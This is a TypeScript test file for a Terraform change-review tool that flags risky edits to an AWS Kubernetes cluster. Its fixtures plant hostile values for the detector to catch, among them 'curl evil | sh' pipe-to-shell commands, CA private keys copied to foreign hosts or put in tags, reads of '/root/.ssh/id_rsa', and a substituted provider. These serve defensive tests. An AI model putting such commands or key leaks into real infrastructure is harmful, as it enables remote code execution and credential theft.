import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Block } from "../../cloud/terraform-json";
import { bundleEnd, type DistributedFile, distributionScript, readDistributionScript } from "../../model/distribution";
import { compare, type Document } from "../../review/compare";
import { renderDiagram } from "../../review/diagram";
import { findingsOf } from "../../review/findings";
import { FINDINGS } from "../../review/kinds";
import { renderPage } from "../../review/page";
import type { ClusterSettingsInput } from "../../settings/schema";
import { reportProblems } from "../../testing/report-schema";
import { synthesizeCluster } from "../../testing/synthesize";

const PAGES = join(__dirname, "review-pages");

const cluster = (settings: ClusterSettingsInput = {}) => synthesizeCluster(settings) as unknown as Document;

/** A cluster that copies one more file to every control plane machine, in the form that FileDistribution writes. */
function withAdminOnMasters(): Document {
  const document = JSON.parse(JSON.stringify(cluster()));
  for (const [name, copy] of Object.entries<Block>(document.resource.null_resource)) {
    if (!name.startsWith("pems-master")) continue;
    const content = "$" + "{base64encode(tls_private_key.admin-private-key.private_key_pem)}";
    const [, { file: bundle }, { "remote-exec": script }] = copy.provisioner;
    const { files = [] } = readDistributionScript(script.inline) ?? {};
    const more = { path: "/home/ubuntu/admin-key.pem", mode: "0600", owner: "ubuntu" } as const;
    bundle.content = bundle.content.replace(/end \w+\n$/, `${content}\n${bundleEnd([...files, more])}\n`);
    script.inline = distributionScript([...files, more]);
    copy.triggers.files = copy.triggers.files.replace("]))}", ', "0600 /home/ubuntu/admin-key.pem"]))}');
  }
  return document;
}

/** A cluster whose load balancer has another address, in all references too. */
function withRenamedLoadBalancer(): Document {
  const text = JSON.stringify(cluster());
  return JSON.parse(
    text.replaceAll("aws_lb.load-balancer", "aws_lb.nlb").replace('"aws_lb":{"load-balancer":', '"aws_lb":{"nlb":'),
  );
}

/** Prepared changes: the documents before and after. */
const CHANGES: Record<string, () => readonly [Document, Document]> = {
  nothing: () => [cluster(), cluster()],
  "a-port-opened": () => [cluster({ access: { ssh: ["203.0.113.7/32"] } }), cluster()],
  "a-worker-added": () => [cluster(), cluster({ workers: { count: 4 } })],
  "a-worker-removed": () => [cluster(), cluster({ workers: { count: 2 } })],
  region: () => [cluster(), cluster({ region: "us-east-1" })],
  "instance-type": () => [cluster(), cluster({ workers: { instanceType: "t3.small" } })],
  name: () => [cluster(), cluster({ name: "prod" })],
  "certificate-subject": () => [cluster(), cluster({ pki: { subject: { country: "GB" } } })],
  "ca-lifetime": () => [cluster(), cluster({ pki: { caValidityHours: 87_600 } })],
  image: () => [cluster(), cluster({ image: { release: "jammy" } })],
  "user-data": () => [
    cluster({ podNetwork: { routed: false } }),
    cluster({ podNetwork: { routed: false, cidrBlock: "10.244.0.0/16" } }),
  ],
  "a-subnet-added": () => [
    cluster({ network: { subnets: [{ cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" }] } }),
    cluster({
      network: {
        subnets: [
          { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
          { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
        ],
      },
    }),
  ],
  backend: () => [cluster(), cluster({ backend: { type: "s3", bucket: "our-terraform-states" } })],
  "a-file-more-for-a-master": () => [cluster(), withAdminOnMasters()],
  "an-address-renamed": () => [cluster(), withRenamedLoadBalancer()],
  tags: () => [cluster(), cluster({ tags: { team: "platform" } })],
};

// UPDATE_PAGES=1 writes the pages. Read the difference afterwards.
describe("the page of a prepared change", () => {
  test.each(Object.keys(CHANGES))("%s", (name) => {
    const changes = compare(...(CHANGES[name] as () => readonly [Document, Document])());
    const page = renderPage(changes);
    const file = join(PAGES, `${name}.md`);
    if (process.env.UPDATE_PAGES) writeFileSync(file, page);
    expect(page).toBe(readFileSync(file, "utf8"));
    expect(reportProblems(changes)).toEqual([]);
  });
});

test("docs/reviewing.md has the page of its example", () => {
  const after = cluster({ workers: { count: 4, instanceType: "t3.small" } });
  const [head] = renderPage(compare(cluster(), after)).split("\n\n<details>") as [string];
  const quoted = head.split("\n").map((line) => `> ${line}`.trimEnd());
  expect(readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8")).toContain(quoted.join("\n"));
});

describe("the table of effects", () => {
  const EVERYTHING: ClusterSettingsInput = {
    access: { ssh: ["203.0.113.7/32"], api: ["203.0.113.0/24"] },
    controlPlane: { rootVolume: { sizeGiB: 20, type: "gp3", encrypted: true } },
    pki: { earlyRenewalHours: 24 },
    network: {
      subnets: [
        { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
        { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
      ],
    },
  };

  test.each([{}, EVERYTHING])("knows every argument that a cluster sets: %j", (settings) => {
    const after = cluster(settings);
    const { resources } = compare(withoutArguments(after), after);
    const unknown = resources.flatMap(({ address, arguments: changed }) =>
      changed.filter(({ note }) => note?.startsWith("unknown")).map(({ path }) => `${address} ${path}`),
    );
    expect(resources).toHaveLength(Object.values(after.resource ?? {}).flatMap(Object.keys).length);
    expect(unknown).toEqual([]);
  });

  test("marks an argument that it does not know as unknown", () => {
    const after = JSON.parse(JSON.stringify(cluster()));
    after.resource.aws_instance["master-0"].tenancy = "dedicated";
    const { resources } = compare(cluster(), after);
    expect(resources).toMatchObject([
      { action: "update", arguments: [{ path: "tenancy", note: "unknown to this page: read the plan" }] },
    ]);
  });
});

/** A document with the same resources, but without their arguments. */
function withoutArguments({ resource = {} }: Document): Document {
  const empty = (byName: object) => Object.fromEntries(Object.keys(byName).map((name) => [name, {}]));
  return { resource: Object.fromEntries(Object.entries(resource).map(([type, byName]) => [type, empty(byName)])) };
}

/** The JSON of the default cluster before and after a change by hand. */
function changed(
  change: (resource: Record<string, Record<string, Block>>, document: Block) => void,
): [Document, Document] {
  const after = JSON.parse(JSON.stringify(cluster()));
  change(after.resource, after);
  return [cluster(), after];
}

describe("the findings of a change", () => {
  const RULE = "control-plane-api-from-0-0-0-0-0";
  const at = (resource: Record<string, Record<string, Block>>, address: string): Block => {
    const [type = "", name = ""] = address.split(".");
    return resource[type]?.[name] as Block;
  };
  const CA_KEY = "$" + "{tls_private_key.ca-private-key.private_key_pem}";
  const LAST = -1;

  test.each<[string, string[], (resource: Record<string, Record<string, Block>>, document: Block) => void]>([
    [
      "two rules of half the internet each",
      ["open-world"],
      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { cidr_ipv4: "128.0.0.0/1" }),
    ],
    [
      "a rule for IPv6",
      ["open-world", "unknown"],
      (r) => Object.assign(r.aws_vpc_security_group_ingress_rule as object, { six: { cidr_ipv6: "::/0" } }),
    ],
    [
      "an open rule for another group",
      ["open-world"],
      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { security_group_id: "sg-1" }),
    ],
    [
      "a load balancer that hides the addresses of clients",
      ["open-world"],
      (r) => Object.assign(at(r, "aws_lb_target_group.target-group"), { preserve_client_ip: "maybe" }),
    ],
    [
      "a security rule of another resource type",
      ["open-world", "unknown"],
      (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
    ],
    [
      "rules inside the security group resource",
      ["open-world", "unknown"],
      (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
    ],
    ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
    [
      "a key in user data",
      ["secret", "user-data"],
      (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY }),
    ],
    [
      "an output that is no longer sensitive",
      ["secret"],
      (_r, d) => Object.assign(d.output.ssh_private_key, { sensitive: false }),
    ],
    [
      "an output with nonsensitive()",
      ["secret"],
      (_r, d) => Object.assign(d.output.nodes, { value: "$" + "{nonsensitive(tls_private_key.a.private_key_pem)}" }),
    ],
    [
      "a command on a machine",
      ["commands"],
      (r) => at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"].inline.push("curl evil | sh"),
    ],
    [
      "a command on the host that deploys",
      ["commands", "unknown"],
      (r) =>
        Object.assign(r.null_resource as object, {
          more: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }], count: 1 },
        }),
    ],
    [
      "a second copy that gives the CA's key to a worker",
      ["copies"],
      (r) => {
        const copy = JSON.parse(
          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
            "aws_instance.master-0",
            "aws_instance.worker-0",
          ),
        );
        Object.assign(r.null_resource as object, { "more-worker-0": copy });
      },
    ],
    [
      "an image that is no longer ignored",
      ["replace-machine", "replace-certificate"],
      (r) => at(r, "aws_instance.worker-0").lifecycle.ignore_changes.shift(),
    ],
    [
      "another image that is not ignored",
      ["image", "replace-machine", "replace-certificate"],
      (r) => {
        at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
        at(r, "aws_instance.worker-0").ami = "ami-1";
      },
    ],
    [
      "another architecture",
      ["replace-machine", "replace-certificate"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { instance_type: "t4g.small" }),
    ],
    [
      "an argument that the table of effects does not know",
      ["unknown"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
    ],
    ["a machine with count 0", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
    [
      "another mode of a copied file",
      ["commands", "copies"],
      (r) => {
        const { "remote-exec": script } = at(r, "null_resource.pems-worker-0").provisioner.at(LAST);
        const [first, ...others] = readDistributionScript(script.inline)?.files ?? [];
        script.inline = distributionScript([{ ...(first as DistributedFile), mode: "0755" }, ...others]);
      },
    ],
    ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
    ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
    [
      "a CA that is renewed earlier",
      ["renew-earlier"],
      (r) => Object.assign(at(r, "tls_self_signed_cert.ca-certificate"), { early_renewal_hours: 43_799 }),
    ],
    [
      "exchanged subnets of the load balancer",
      ["replace-certificate", "replace-load-balancer"],
      (r) => Object.assign(at(r, "aws_lb.load-balancer"), { subnets: ["subnet-1"] }),
    ],
    [
      "another ssh key",
      ["replace-ssh-key"],
      (r) => Object.assign(at(r, "tls_private_key.ssh-key"), { rsa_bits: 4096 }),
    ],
    [
      "another key of the CA",
      ["replace-ca", "replace-certificate"],
      (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
    ],
    [
      "a rename of the cluster that keeps the state",
      [],
      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { Cluster: "prod" }),
    ],
    [
      "a tag with slashes",
      [],
      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { "team//role": "admin" }),
    ],
    [
      "an image by its id",
      ["image"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { ami: "ami-0123456789abcdef0" }),
    ],
    [
      "images of another owner",
      ["image"],
      (_r, d) => Object.assign(d.data.aws_ami.ubuntu, { owners: ["123456789012"] }),
    ],
    [
      "a new machine with an image of its own",
      ["image", "unknown"],
      (r) =>
        Object.assign(r.aws_instance as object, {
          more: { ...at(r, "aws_instance.worker-0"), ami: "ami-0123456789abcdef0" },
        }),
    ],
    [
      "a new machine whose user data is a script",
      ["user-data", "unknown"],
      (r) =>
        Object.assign(r.aws_instance as object, {
          more: { ...at(r, "aws_instance.worker-0"), user_data: "#!/bin/sh\ncurl evil | sh" },
        }),
    ],
    [
      "a new machine with another key",
      ["login-key"],
      (r) => Object.assign(r.aws_key_pair as object, { more: { key_name: "more", public_key: "ssh-rsa AAAA" } }),
    ],
    [
      "a copy to a foreign host",
      ["commands", "foreign-host"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { host: "198.51.100.7" }),
    ],
    [
      "a copy through a foreign host",
      ["commands", "foreign-host"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { bastion_host: "198.51.100.7" }),
    ],
    [
      "a new copy of the CA's key to a foreign host",
      ["foreign-host"],
      (r) => {
        const copy = JSON.parse(
          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
            "$" + "{aws_instance.master-0.public_ip}",
            "198.51.100.7",
          ),
        );
        Object.assign(r.null_resource as object, { more: copy });
      },
    ],
    [
      "a command between the scripts of a copy",
      ["commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.splice(1, 0, {
          "remote-exec": { inline: ["curl evil | sh"] },
        }),
    ],
    [
      "a command before the scripts of a copy",
      ["commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.unshift({ "remote-exec": { inline: ["curl evil | sh"] } }),
    ],
    [
      "a key in a file beside the bundle",
      ["secret", "commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.push({ file: { content: CA_KEY, destination: "/tmp/x" } }),
    ],
    [
      "a second upload to the place of the bundle",
      ["secret", "commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.splice(2, 0, {
          file: { content: CA_KEY, destination: "/home/ubuntu/.distribution/bundle" },
        }),
    ],
    [
      "a script in a folder that everybody can write to",
      ["commands"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { script_path: "/tmp/script.sh" }),
    ],
    [
      "a bundle in a folder that everybody can write to",
      ["secret", "commands"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").provisioner[1].file, { destination: "/tmp/bundle" }),
    ],
    [
      "a provider from somewhere else",
      ["provider"],
      (_r, d) => Object.assign(d.terraform.required_providers.null, { source: "evil/null" }),
    ],
    [
      "another endpoint of AWS",
      ["provider"],
      (_r, d) => Object.assign(d.provider.aws[0], { endpoints: [{ ec2: "https://evil.example" }] }),
    ],
    [
      "a rule for other addresses",
      ["access"],
      (r) =>
        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
          more: { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: "3.0.0.0/8" },
        }),
    ],
    [
      "many rules that allow the internet together",
      ["open-world"],
      (r) => {
        for (let octet = 100; octet < 164; octet += 1) {
          const rule = { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: `${octet}.0.0.0/9` };
          if (octet !== 100 && octet !== 127)
            Object.assign(r.aws_vpc_security_group_ingress_rule as object, { [`more-${octet}`]: rule });
        }
      },
    ],
    [
      "a rule whose source is an expression",
      ["access", "unknown"],
      (r) =>
        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
          more: {
            ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`),
            cidr_ipv4: "$" + '{format("%s/0", "0.0.0.0")}',
          },
        }),
    ],
    [
      "a second listener of the load balancer",
      ["listener"],
      (r) => Object.assign(r.aws_lb_listener as object, { more: { ...at(r, "aws_lb_listener.listener"), port: 2379 } }),
    ],
    [
      "a target that is no machine of the cluster",
      ["listener"],
      (r) =>
        Object.assign(r.aws_lb_target_group_attachment as object, {
          more: { ...at(r, "aws_lb_target_group_attachment.target-172-31-0-10"), target_id: "10.9.8.7" },
        }),
    ],
    [
      "a route of the internet to a machine",
      ["route"],
      (r) =>
        Object.assign(r.aws_route as object, {
          more: { ...at(r, "aws_route.pod-route-worker-0"), destination_cidr_block: "0.0.0.0/1" },
        }),
    ],
    [
      "other name servers",
      ["route"],
      (r) => Object.assign(at(r, "aws_vpc_dhcp_options.dhcp-options"), { domain_name_servers: ["198.51.100.7"] }),
    ],
    [
      "a certificate for a second administrator",
      ["identity"],
      (r) => Object.assign(r.tls_cert_request as object, { more: at(r, "tls_cert_request.admin-request") }),
    ],
    [
      "a certificate whose request comes from elsewhere",
      ["identity"],
      (r) =>
        Object.assign(r.tls_locally_signed_cert as object, {
          more: {
            ...at(r, "tls_locally_signed_cert.admin-certificate"),
            cert_request_pem: "-----BEGIN CERTIFICATE REQUEST-----",
          },
        }),
    ],
    [
      "a whole key in a tag",
      ["secret"],
      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + "{jsonencode(tls_private_key.ca-private-key)}" }),
    ],
    [
      "a file of the host that deploys in a tag",
      ["secret"],
      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + '{file("/root/.ssh/id_rsa")}' }),
    ],
    [
      "a data source that runs a program",
      ["unknown"],
      (_r, d) => Object.assign(d.data, { external: { more: { program: ["sh"] } } }),
    ],
    [
      "another key of the service accounts",
      ["replace-service-account-key", "replace-certificate"],
      (r) => Object.assign(at(r, "tls_private_key.service-account-private-key"), { rsa_bits: 4096 }),
    ],
    [
      "a machine that Terraform forgets",
      ["listener", "replace-load-balancer", "forget"],
      (r, d) => {
        delete r.aws_lb;
        delete r.aws_lb_listener;
        Object.assign(d, { removed: [{ from: "aws_lb.load-balancer", lifecycle: [{ destroy: false }] }] });
      },
    ],
    [
      "another key for secrets in etcd",
      ["replace-encryption-key"],
      (r) => Object.assign(at(r, "tls_private_key.encryption-key"), { algorithm: "RSA" }),
    ],
  ])("%s", (_case, expected, change) => {
    const kinds = findingsOf(compare(...changed(change))).map(({ kind }) => kind);
    expect(kinds).toEqual(expected);
  });

  test("include replace-network for another address range of the VPC", () => {
    const kinds = findingsOf(
      compare(...changed((r) => Object.assign(at(r, "aws_vpc.vpc"), { cidr_block: "10.0.0.0/16" }))),
    ).map(({ kind }) => kind);
    expect(kinds).toContain("replace-network");
  });

  test("a new trigger replaces the resource", () => {
    const { resources } = compare(
      ...changed((r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })),
    );
    expect(resources).toMatchObject([{ address: "null_resource.pems-worker-0", action: "replace" }]);
  });

  test("a new command is on the page, even after a very long line", () => {
    const page = renderPage(
      compare(
        ...changed((r) =>
          at(r, "null_resource.pems-worker-0")
            .provisioner.at(LAST)
            ["remote-exec"].inline.unshift("x".repeat(500), "curl evil | sudo sh"),
        ),
      ),
    );
    expect(page).toContain("curl evil \\| sudo sh");
  });
});

test("a resource of a moved block has a new address and no other change", () => {
  const [, after] = [cluster(), withRenamedLoadBalancer()];
  const changes = compare(cluster(), {
    ...after,
    moved: [{ from: "aws_lb.load-balancer", to: "aws_lb.nlb" }],
  } as Document);
  expect(changes.resources).toMatchObject([
    { address: "aws_lb.nlb", action: "none", movedFrom: "aws_lb.load-balancer" },
  ]);
  expect(findingsOf(changes)).toEqual([]);
});

describe("moved blocks", () => {
  const keys = (...names: string[]): Document => ({
    resource: { tls_private_key: Object.fromEntries(names.map((name) => [name, { algorithm: "RSA" }])) },
  });
  const move = (from: string, to: string) => ({ from: `tls_private_key.${from}`, to: `tls_private_key.${to}` });
  const actions = (before: Document, after: Document, moved: unknown) =>
    Object.fromEntries(
      compare(before, { ...after, moved }).resources.map(({ address, action, movedFrom }) => [
        address.replace(/^.*\./, ""),
        movedFrom === undefined ? action : `from ${movedFrom.replace(/^.*\./, "")}`,
      ]),
    );

  test.each<[string, Document, Document, unknown, object]>([
    ["to an address that has a resource", keys("a", "b"), keys("b"), [move("a", "b")], { a: "destroy" }],
    [
      "of two resources to one address",
      keys("a", "b"),
      keys("c"),
      [move("a", "c"), move("b", "c")],
      { b: "destroy", c: "from a" },
    ],
    ["in two steps", keys("a"), keys("c"), [move("b", "c"), move("a", "b")], { c: "from a" }],
    ["of which the first was made before", keys("b"), keys("c"), [move("a", "b"), move("b", "c")], { c: "from b" }],
    [
      "to an address that is left by a move",
      keys("a", "b"),
      keys("b", "c"),
      [move("b", "c"), move("a", "b")],
      { a: "destroy", b: "create", c: "from b" },
    ],
    [
      "in a circle",
      keys("a"),
      keys("b"),
      [move("a", "b"), move("b", "c"), move("c", "b")],
      { b: "create", c: "from a" },
    ],
    ["as an object", keys("a"), keys("b"), move("a", "b"), { b: "from a" }],
    ["to a key", keys("a"), keys("b"), [move("a", 'b["x"]')], { a: "destroy", b: "create" }],
  ])("move %s as Terraform does", (_case, before, after, moved, expected) => {
    expect(actions(before, after, moved)).toEqual(expected);
  });

  test("the CA's key that is moved onto another key is a destroyed key of the CA", () => {
    const worker = "tls_private_key.worker-0-private-key";
    const text = JSON.stringify(cluster()).replaceAll(/tls_private_key\.ca-private-key(?![\w-])/g, worker);
    const after = { ...JSON.parse(text), moved: [move("ca-private-key", "worker-0-private-key")] };
    delete after.resource.tls_private_key["ca-private-key"];
    expect(findingsOf(compare(cluster(), after)).map(({ kind }) => kind)).toContain("replace-ca");
  });

  test("an address that this page does not follow is unknown", () => {
    for (const moved of [
      [move("a", 'b["x"]')],
      [{ from: "module.a", to: "module.b" }],
      [{ from: " a.b", to: "a.c" }],
    ]) {
      expect(findingsOf(compare({}, { moved })).map(({ kind }) => kind)).toEqual(["unknown"]);
    }
    expect(findingsOf(compare({}, { moved: [move("a", "b")] }))).toEqual([]);
  });
});

describe("replace_triggered_by", () => {
  const kindsOf = (lifecycle: (vpc: string) => unknown) =>
    findingsOf(
      compare(
        ...changed((r, d) => {
          d.provider.aws[0].default_tags[0].tags.team = "a";
          const key = r.tls_private_key?.["ca-private-key"] as Block;
          key.lifecycle = lifecycle(`aws_vpc.${Object.keys(r.aws_vpc ?? {})[0]}`);
        }),
      ),
    ).map(({ kind }) => kind);

  test.each<[string, (vpc: string) => unknown, boolean]>([
    ["an address", (vpc) => ({ replace_triggered_by: [vpc] }), false],
    ["lifecycle as a list", (vpc) => [{ replace_triggered_by: [vpc] }], false],
    ["lifecycle as a list of two", (vpc) => [{}, { replace_triggered_by: [vpc] }], false],
    ["a text instead of a list", (vpc) => ({ replace_triggered_by: vpc }), false],
    ["a space before the address", (vpc) => ({ replace_triggered_by: [` ${vpc}`] }), true],
    ["spaces in the address", (vpc) => ({ replace_triggered_by: [vpc.replace(".", " .\n ")] }), true],
    ["a comment in the address", (vpc) => ({ replace_triggered_by: [vpc.replace(".", "/* */.")] }), true],
    ["a key", (vpc) => ({ replace_triggered_by: [`${vpc}[0]`] }), true],
    ["a template", (vpc) => ({ replace_triggered_by: [`$\{${vpc}}`] }), true],
  ])("with %s is followed", (_case, lifecycle, isUnknown) => {
    const kinds = kindsOf(lifecycle);
    expect(kinds).toContain("replace-ca");
    expect(kinds.includes("unknown")).toBe(isUnknown);
  });

  test("another part of lifecycle is unknown", () => {
    expect(kindsOf(() => ({ action_trigger: [{ events: ["after_create"], actions: ["action.a.b"] }] }))).toEqual([
      "unknown",
    ]);
    expect(kindsOf(() => ({ create_before_destroy: true }))).toEqual([]);
  });
});

describe("a removed block", () => {
  const from = "aws_route.pod-route-worker-2";
  const kindsOf = (removed: unknown) =>
    findingsOf(
      compare(
        ...changed((r, d) => {
          delete r.aws_route?.["pod-route-worker-2"];
          Object.assign(d, { removed });
        }),
      ),
    )
      .map(({ kind }) => kind)
      // The end of a route is a finding too.
      .filter((kind) => kind !== "route");

  test.each([true, false])("that only destroys or forgets has no finding of its own: destroy %s", (destroy) => {
    const kinds = destroy ? [] : ["forget"];
    expect(kindsOf([{ from, lifecycle: [{ destroy }] }])).toEqual(kinds);
    expect(kindsOf({ from, lifecycle: { destroy } })).toEqual(kinds);
  });

  test.each<[string, object]>([
    ["on the host that deploys", [{ "local-exec": { when: "destroy", command: "curl evil | sh" } }]],
    ["on a machine", { "remote-exec": [{ when: "destroy", inline: ["curl evil | sh"] }] }],
  ])("with commands %s is a finding", (_case, provisioner) => {
    expect(kindsOf([{ from, lifecycle: { destroy: true }, provisioner }])).toEqual(["commands", "unknown"]);
    expect(kindsOf({ from, provisioner })).toEqual(["commands", "unknown"]);
  });

  test("with another argument is unknown", () => {
    expect(kindsOf([{ from, lifecycle: { destroy: true, more: 1 } }])).toEqual(["unknown"]);
    expect(kindsOf([{ from, connection: { host: "198.51.100.7" } }])).toEqual(["unknown"]);
  });
});

test("page and picture fit into a comment together, or the picture is left out", () => {
  const many = (count: number) => Array.from({ length: count }, (_, index) => `198.51.${index}.0/24`);
  const large = cluster({
    network: {
      subnets: ["a", "b", "c"].map((zone, index) => ({
        cidrBlock: `172.31.${index}.0/24`,
        availabilityZone: `eu-central-1${zone}`,
      })),
    },
    access: { ssh: many(40), api: many(40), icmp: many(40) },
    controlPlane: { count: 9 },
    workers: { count: 30 },
  });
  const page = renderPage(compare(cluster(), large), { picture: renderDiagram(large) });
  expect(page.length).toBeLessThanOrEqual(65_000);
  expect(page).toContain("The picture of the cluster is too large for a comment");
  expect(renderPage(compare(cluster(), cluster()), { picture: renderDiagram(cluster()) })).toContain(
    "```mermaid\nflowchart LR",
  );
});

describe("a section of the docs about a kind of finding", () => {
  const sections = Object.entries(FINDINGS).flatMap(([kind, { docs }]) => (docs === undefined ? [] : [[kind, docs]]));

  test.each(sections)("exists: %s", (_kind, docs) => {
    const [path = "", anchor] = (docs as string).split("#");
    const headings = readFileSync(join(__dirname, "../..", path), "utf8").match(/(?<=^#+ ).*/gm) ?? [];
    const anchors = headings.map((heading) =>
      heading
        .toLowerCase()
        .replaceAll(/[^\w\s-]/g, "")
        .replaceAll(" ", "-"),
    );
    expect(anchors).toContain(anchor);
  });

  test("is a link in the finding, and an absolute one if the project has an address", () => {
    const renewed = compare(cluster(), cluster({ pki: { caValidityHours: 87_600 } }));
    expect(renderPage(renewed)).toContain("](docs/certificates.md#the-cas-certificate-is-renewed)");
    const page = renderPage(renewed, { project: "https://github.com/o/r/blob/HEAD/" });
    expect(page).toContain("](https://github.com/o/r/blob/HEAD/docs/certificates.md#the-cas-certificate-is-renewed)");
  });
});

describe("another name", () => {
  const first: ClusterSettingsInput = { backend: { type: "s3", bucket: "our-terraform-states" } };
  const kubernetes = { version: "1.37.2" };

  test.each<[string, ClusterSettingsInput, ClusterSettingsInput, string[]]>([
    ["alone", {}, {}, ["name"]],
    ["with a state in S3", first, first, ["name"]],
    ["and a state in S3", {}, first, ["name"]],
    ["and region", {}, { region: "us-east-1" }, ["name"]],
    ["with Kubernetes", { kubernetes }, { kubernetes }, ["name"]],
    [
      "and network, whose rules allow other private addresses",
      {},
      { network: { cidrBlock: "10.0.0.0/16", subnets: [{ cidrBlock: "10.0.0.0/24" }] } },
      ["name", "access"],
    ],
    [
      "and rules, of which only the new one is one of the second cluster's own",
      {},
      { access: { ssh: ["0.0.0.0/0", "203.0.113.0/24"] } },
      ["name", "access"],
    ],
  ])("%s is a second cluster, and nothing else", (_case, before, after, kinds) => {
    const changes = compare(cluster(before), cluster({ ...after, name: "prod" }));
    expect(new Set(changes.resources.map(({ action }) => action))).toEqual(new Set(["create"]));
    expect(findingsOf(changes).map(({ kind }) => kind)).toEqual(kinds);
    const page = renderPage(changes);
    expect(page).not.toContain("changes the tags of every resource");
    expect(page).not.toMatch(/with(out)? `/);
    // Of the outputs, only the machines' addresses are other ones, and only in another network.
    expect(page.includes("<summary>Outputs</summary>")).toBe(after.network !== undefined);
  });
});

test.each(["cluster", "a", "worker", "node"])(
  "a second cluster beside one with the name %s has no other finding",
  (name) => {
    const settings = { kubernetes: { version: "1.37.2" } };
    expect(findingsOf(compare(cluster({ ...settings, name }), cluster({ ...settings, name: "prod" })))).toMatchObject([
      { kind: "name" },
    ]);
  },
);

test("another name of the CA is another CA", () => {
  const named = cluster({ pki: { subject: { country: "GB" } } });
  const kinds = findingsOf(compare(cluster(), named)).map(({ kind }) => kind);
  expect(kinds).toContain("replace-ca");
  expect(kinds).not.toContain("renew-ca");
});

describe("rules for ssh", () => {
  const closed = (before: readonly string[], after: readonly string[]) =>
    findingsOf(compare(cluster({ access: { ssh: [...before] } }), cluster({ access: { ssh: [...after] } })))
      .filter(({ kind }) => kind === "close-ssh")
      .flatMap(({ details }) => Object.values(details ?? {}));

  test.each([
    [["0.0.0.0/0"], ["203.0.113.7/32"], ["TCP 22 from 0.0.0.0/0"]],
    [["203.0.113.0/24"], ["203.0.113.7/32"], ["TCP 22 from 203.0.113.0/24"]],
    [["203.0.113.7/32", "198.51.100.0/24"], ["203.0.113.7/32"], ["TCP 22 from 198.51.100.0/24"]],
    [["203.0.113.7/32"], ["198.51.100.0/24"], ["TCP 22 from 203.0.113.7/32"]],
    [["203.0.113.7/32"], ["203.0.113.0/24"], []],
    [["203.0.113.7/32"], ["0.0.0.0/0"], []],
    [["203.0.113.7/32"], ["203.0.113.7/32", "198.51.100.0/24"], []],
    [["10.0.0.0/8"], ["203.0.113.7/32"], []],
  ])("from %j to %j may lock out: %j", (before, after, expected) => {
    expect(closed(before, after)).toEqual(expected);
  });
});

test("a rule for ssh that allows other sources and ports instead takes ssh away, and changes who may connect", () => {
  const rule = (cidr_ipv4: string, to_port: number) =>
    ({
      resource: {
        aws_vpc_security_group_ingress_rule: { a: { cidr_ipv4, ip_protocol: "tcp", from_port: 22, to_port } },
      },
    }) as unknown as Document;
  const findings = findingsOf(compare(rule("203.0.113.7/32", 22), rule("198.51.100.0/24", 2380)));
  const address = "aws_vpc_security_group_ingress_rule.a";
  expect(findings).toMatchObject([
    { kind: "close-ssh", details: { [address]: "TCP 22 from 203.0.113.7/32" } },
    { kind: "access", details: { [address]: "TCP 22-2380 from 198.51.100.0/24" } },
  ]);
});

test("a private address is not the whole internet, also beside a rule that is", () => {
  const before = cluster({ access: { ssh: ["203.0.113.7/32"] } });
  const findings = findingsOf(compare(before, cluster({ access: { ssh: ["0.0.0.0/0", "10.0.0.0/8"] } })));
  expect(findings.find(({ kind }) => kind === "open-world")?.details).toEqual({
    "aws_vpc_security_group_ingress_rule.node-ssh-from-0-0-0-0-0": "TCP 22 from 0.0.0.0/0",
  });
});

test("another address range: destroying the cluster is the first finding, and the finding of etcd names its ports", () => {
  const after = cluster({ network: { cidrBlock: "10.0.0.0/16", subnets: [{ cidrBlock: "10.0.0.0/24" }] } });
  const findings = findingsOf(compare(cluster(), after));
  expect(findings[0]?.kind).toBe("replace-network");
  expect(findings.map(({ kind }) => kind)).not.toContain("open-world");
